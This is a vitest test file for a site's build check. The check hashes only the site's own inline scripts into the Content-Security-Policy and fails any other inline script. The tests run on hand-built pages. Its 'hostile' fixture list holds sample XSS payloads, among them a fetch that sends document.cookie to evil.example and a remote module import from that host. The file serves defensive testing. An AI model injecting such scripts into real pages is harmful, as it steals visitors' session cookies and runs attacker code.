/**
 * The inline scripts of the site, by purpose (src/hosting/inlineScripts.ts): the headers step
 * hashes only those into the CSP, and dist-check fails any other, naming its page (security review
 * 2026-12-01, SEC-10). Pages written by hand as the build writes them, plus what a bug that let
 * content reach a page unescaped would add.
 */
import { createHash } from 'node:crypto'
import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { inlineScripts } from '../../../dist-check/checks/inlineScripts'
import { distContextOf } from '../../../dist-check/context'
import { runChecks } from '../../../dist-check/runChecks'
import { headerRules, headersFile, securityHeaders, writeHeaders } from '../../../scripts/hosting/headers'
import { siteHeadersOf } from '../../../src/hosting/headersFormat'
import { inlineScriptPurpose, inlineScriptsOf } from '../../../src/hosting/inlineScripts'
import { threatsEntry } from '../../fixtures/checkedPages'

const bootScript = '(()=>{try{document.documentElement.dataset.boot="1"}catch{}})();'
const buildHash = "window.__VITE_REACT_SSG_HASH__ = '23b9d0486a'"
const routerData =
  'window.__staticRouterHydrationData = JSON.parse("{\\"loaderData\\":{},\\"actionData\\":null,\\"errors\\":null}");'
const structuredData = '{"@context":"https://schema.org","@type":"BreadcrumbList","itemListElement":[]}'

/** A page as the build writes it; `main` is where content goes. */
const builtPage = (main: string) =>
  `<!doctype html><html lang="en"><head><meta charset="UTF-8"><title>Threats</title><script data-rh="true" type="application/ld+json">${structuredData}</script><script>${bootScript}</script></head><body><div id="root" data-server-rendered="true"><main>${main}</main></div>\n<script>${buildHash}</script><script>${routerData}</script></body></html>`

const hostile = [
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<script type="module">import("https://evil.example/x.js")</script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  "<script>window.__VITE_REACT_SSG_HASH__ = '1'; alert(1)</script>",
  '<script>window.__staticRouterHydrationData = JSON.parse("{}"); alert(1);</script>',
  '<script>window.__staticRouterHydrationData = JSON.parse("\\"x\\"");</script>',
  '<script type="application/ld+json">not json</script>',
]

const source = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
const ownSources = [bootScript, buildHash, routerData].map(source).sort()

function findings(pages: Record<string, string>, csp: readonly string[]) {
  const headers = headersFile(
    headerRules(securityHeaders({ scriptHashes: [...csp] }), { host: 'cloudflare' }),
    'cloudflare',
  )
  const text: Record<string, string> = { ...pages, _headers: headers }
  const context = distContextOf(
    {
      distDir: '/nowhere',
      files: new Set(Object.keys(text)),
      text: (file) => text[file] ?? '',
      buildReport: <T>(file: string) => (file === 'build-manifest.json' ? ({ bootScript } as T) : null),
      postIndex: { en: [], es: [], pt: [], fr: [], de: [] },
      threads: 0,
      cacheDir: null,
    },
    [threatsEntry('en'), threatsEntry('es')],
  )
  return runChecks([inlineScripts], context).then((outcomes) =>
    outcomes.flatMap((outcome) => outcome.findings.map((finding) => `${finding.file}: ${finding.message}`)),
  )
}

describe('inline scripts, by purpose', () => {
  it('knows the site’s own: the boot script, the build hash, the router’s data and JSON data blocks', () => {
    expect(inlineScriptsOf(builtPage('<p>Text</p>')).map((script) => inlineScriptPurpose(script, bootScript))).toEqual([
      'data block',
      'boot script',
      'build hash',
      'router hydration data',
    ])
  })

  it('passes pages that hold only the site’s own, with a CSP of exactly their hashes', async () => {
    const pages = { 'threats/index.html': builtPage('<p>One</p>'), 'es/threats/index.html': builtPage('<p>Uno</p>') }
    expect(await findings(pages, ownSources)).toEqual([])
  })

  it('SEC-10: fails an inline script that is none of the site’s own, naming its page, and a CSP hash no page means to have', async () => {
    for (const script of hostile) {
      const pages = { 'threats/index.html': builtPage('<p>One</p>'), 'es/threats/index.html': builtPage(script) }
      expect(await findings(pages, ownSources), script).toEqual([
        expect.stringMatching(/^es\/threats\/index\.html: holds an inline script that is none of the site's own/),
      ])
    }
    const pages = { 'threats/index.html': builtPage('<p>One</p>') }
    const injected = 'alert(1)'
    expect(await findings(pages, [...ownSources, source(injected)])).toEqual([
      `_headers: the Content-Security-Policy allows the inline script ${source(injected)}, which is none of the site's own scripts on any page.`,
    ])
    expect(
      await findings(
        pages,
        ownSources.filter((hash) => hash !== source(bootScript)),
      ),
    ).toEqual([
      expect.stringMatching(
        /^_headers: the Content-Security-Policy does not allow the boot script \(threats\/index\.html\)/,
      ),
    ])
  })

  it('SEC-10: the CSP the build writes allows the site’s own inline scripts and none a page gained by mistake', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'vaultline-inline-'))
    try {
      const write = (file: string, html: string) => {
        mkdirSync(dirname(join(dir, file)), { recursive: true })
        writeFileSync(join(dir, file), html)
      }
      write('threats/index.html', builtPage('<p>One</p>'))
      hostile.forEach((script, index) => write(`page-${index}/index.html`, builtPage(script)))
      await writeHeaders(
        dir,
        ['threats/index.html', ...hostile.map((_, index) => `page-${index}/index.html`)],
        {},
        'cloudflare',
        bootScript,
      )
      const csp = siteHeadersOf(readFileSync(join(dir, '_headers'), 'utf8'))['Content-Security-Policy'] ?? ''
      expect((csp.match(/'sha256-[^']+'/g) ?? []).sort()).toEqual(ownSources)
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })
})
